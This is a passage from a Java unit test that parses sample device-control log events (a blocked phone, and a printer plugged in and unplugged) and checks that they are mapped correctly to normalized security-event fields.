                + "\\\\r\\\\nDevice name: Pixel 8\\\\r\\\\nUser: CORP\\\\t.berg (Active user) rt=1772358240000 dhost=WS-LAB-11"
                + " dst=10.12.60.11 cs9=Lab cs9Label=GroupName");
        assertThat(phone.get("class_uid").asInt()).isEqualTo(1010);
        assertDenied(phone);
        assertThat(phone.at("/peripheral_device/name").asText()).isEqualTo("Pixel 8");
        assertThat(phone.at("/peripheral_device/type").asText()).isEqualTo("Mobile devices");
        assertThat(phone.at("/actor/user/name").asText()).isEqualTo("CORP\\t.berg");
        assertThat(phone.at("/device/hostname").asText()).isEqualTo("WS-LAB-11");

        JsonNode plugged = line(
                KES
                        + "GNRL_EV_DEVCTRL_DEV_PLUGGED [event@23668 et=\"GNRL_EV_DEVCTRL_DEV_PLUGGED\" tdn=\"Device Control\""
                        + " etdn=\"Device connected\" hdn=\"NB-SALES-019\" hip=\"10.12.40.19\"]"
                        + " Device type/Bus type: Printers\\r\\nDevice name: Brother HL-L2350DW\\r\\nUser: CORP\\a.rossi (Active user)");
        assertThat(plugged.get("class_uid").asInt()).isEqualTo(1010);
        assertThat(plugged.get("activity_id").asInt()).isEqualTo(1);
        assertThat(plugged.get("action_id").asInt()).isEqualTo(1);

        JsonNode unplugged = line(KES
                + "GNRL_EV_DEVCTRL_DEV_UNPLUGGED [event@23668 et=\"GNRL_EV_DEVCTRL_DEV_UNPLUGGED\" tdn=\"Device Control\""
                + " etdn=\"Device disconnected\" hdn=\"NB-SALES-019\" hip=\"10.12.40.19\"]"
                + " Device type/Bus type: Printers\\r\\nDevice name: Brother HL-L2350DW");
        assertThat(unplugged.get("class_uid").asInt()).isEqualTo(1010);
        assertThat(unplugged.get("activity_id").asInt()).isEqualTo(2);
    }
}
